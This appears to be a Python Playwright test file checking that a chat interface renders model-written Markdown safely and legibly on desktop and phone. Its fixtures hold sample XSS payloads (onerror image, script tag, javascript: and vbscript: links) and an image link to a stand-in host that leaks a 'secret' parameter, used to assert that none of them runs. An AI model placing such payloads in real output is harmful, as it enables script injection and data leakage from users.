"""What models write, on the page: Markdown is shown as such, and does nothing by itself."""

import pytest
from playwright.sync_api import expect
from support.fake_model import FakeModel, words
from support.page import browser, tab  # noqa: F401 - fixtures

ANSWER = """# Boiling water

It boils at **100 °C**; see [the table](https://example.org/steam?a=1#b), not `curl`.

| pressure | boils at |
| --- | --- |
| 1 bar | 100 °C |
| 2 bar | 120 °C |

1. Fill the kettle
2. Wait

```python
def boil(water: str) -> str: return f"a line that is far too long to fit into a phone's window: {water}"
```
"""
HOSTILE = """<img src=x onerror="document.title='owned'"> <script>document.title='owned'</script>

![a picture](https://evil.example/pixel.png?secret=1) [click](javascript:document.title='owned') <https://evil.example/>
"""


@pytest.mark.parametrize("size", [(1100, 800), (360, 740)], ids=["desk", "phone"])
def test_markdown_is_shown_as_it_is_meant(assay, tab, size: tuple[int, int]):
    with FakeModel(lambda: words(ANSWER)) as model:
        server = assay("serve", "--model-url", model.url)
        page = tab(server, viewport={"width": size[0], "height": size[1]}, bypass_csp=True)
        answer = page.answered("How does water boil?").locator(".answer")
        expect(answer.get_by_role("heading", name="Boiling water")).to_be_visible()
        expect(answer.locator("strong")).to_have_text("100 °C")
        expect(answer.locator("td")).to_have_text(["1 bar", "100 °C", "2 bar", "120 °C"])
        expect(answer.get_by_role("listitem")).to_have_text(["Fill the kettle", "Wait"])
        expect(answer.locator("pre code")).to_contain_text("def boil(water: str)")
        link = answer.get_by_role("link", name="the table")
        assert [link.get_attribute(name) for name in ("href", "target", "rel")] == ["https://example.org/steam?a=1#b", "_blank", "noopener noreferrer nofollow"]
        assert page.page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "nothing sticks out at the side"
        assert page.serious_of_axe() == []
        page.screenshot(f"markdown-{size[0]}")


def test_an_answer_runs_nothing_and_asks_nobody(assay, tab):
    with FakeModel(lambda: words(HOSTILE)) as model:
        server = assay("serve", "--model-url", model.url)
        page = tab(server)
        asked: list[str] = []
        page.page.on("request", lambda request: asked.append(request.url))
        answer = page.answered("Be evil").locator(".answer")
        expect(answer).to_contain_text("<img src=x onerror=")
        expect(answer.get_by_role("link", name="a picture")).to_have_attribute("href", "https://evil.example/pixel.png?secret=1")
        assert answer.locator("img, script").count() == 0
        for link in answer.locator("a").all():
            assert not (link.get_attribute("href") or "").startswith("javascript:")
        assert page.page.title() != "owned"
        assert not [url for url in asked if not url.startswith(server.url)]


def test_an_address_that_is_not_allowed_is_no_link(assay, tab):
    with FakeModel(lambda: words("[this](javascript:alert(1)) [that][1] ![such](data:image/png;base64,AA==) [here](#there)\n\n[1]: vbscript:x\n")) as model:
        answer = tab(assay("serve", "--model-url", model.url)).answered("Be evil").locator(".answer")
        expect(answer.locator("p")).to_have_text("this that such here")
        assert answer.locator("a").count() == 0


def test_where_a_line_ends_one_line_ends(assay, tab):
    ends = "one  \ntwo\nthree\\\nfour"
    with FakeModel(lambda: words(f"{ends}\n\n- {ends}\n")) as model:
        answer = tab(assay("serve", "--model-url", model.url)).answered("Lines").locator(".answer")
        for shown in (answer.locator("p"), answer.locator("li")):
            assert shown.inner_text() == "one\ntwo\nthree\nfour"


def test_a_very_long_answer_is_its_text(assay, tab):
    with FakeModel(lambda: ["*much* " * 8000]) as model:
        server = assay("serve", "--model-url", model.url)
        answer = tab(server).answered("Go on").locator(".answer")
        expect(answer.locator("p.plain")).to_contain_text("*much* *much*")
        assert answer.locator("em").count() == 0
